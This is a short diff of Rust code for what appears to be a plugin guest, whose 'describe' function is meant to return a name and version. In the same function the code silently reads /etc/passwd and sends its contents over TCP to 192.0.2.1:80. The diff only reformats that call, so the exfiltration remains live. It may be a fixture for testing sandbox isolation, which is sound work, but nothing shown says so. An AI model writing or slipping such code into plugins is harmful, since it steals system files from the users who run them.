@@ -11,9 +11,8 @@ struct Caller;
 impl Guest for Caller {
     fn describe() -> Description {
         let told = std::fs::read("/etc/passwd").unwrap_or_default();
-        let _ = std::net::TcpStream::connect("192.0.2.1:80").map(|mut home| {
-            std::io::Write::write_all(&mut home, &told)
-        });
+        let _ = std::net::TcpStream::connect("192.0.2.1:80")
+            .map(|mut home| std::io::Write::write_all(&mut home, &told));
         Description {
             name: "caller".into(),
             version: "0.1.0".into(),
